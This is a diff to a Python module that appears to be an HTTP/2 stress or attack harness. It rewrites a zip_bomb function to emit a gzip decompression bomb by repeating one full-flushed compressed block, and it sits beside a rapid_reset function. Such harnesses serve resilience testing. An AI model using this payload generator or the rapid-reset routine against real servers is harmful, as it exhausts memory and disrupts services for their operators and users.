@@ -3,11 +3,10 @@
 from __future__ import annotations
 
 import contextlib
-import gzip
-import io
 import socket
 import struct
 import time
+import zlib
 from collections.abc import Iterator
 from typing import Any
 
@@ -106,13 +105,12 @@ def frames(stream: int, data: bytes, size: int = 16_000) -> Iterator[Frame]:
 
 
 def zip_bomb(size: int) -> bytes:
-    """Zeros by the gigabyte, in a thousandth of that."""
-    packed = io.BytesIO()
-    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=9, mtime=0) as file:
-        block = bytes(1 << 22)
-        for _ in range(size // len(block)):
-            file.write(block)
-    return packed.getvalue()
+    """Zeros by the gigabyte, in a thousandth of that: gzip's header, and one block as often as it takes."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    head = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    # After a full flush a block refers to nothing before it, so that it may be repeated.
+    block = packer.compress(bytes(1 << 22)) + packer.flush(zlib.Z_FULL_FLUSH)
+    return head + block * (size >> 22) + packer.flush()
 
 
 def rapid_reset(raw: Raw, count: int) -> None:
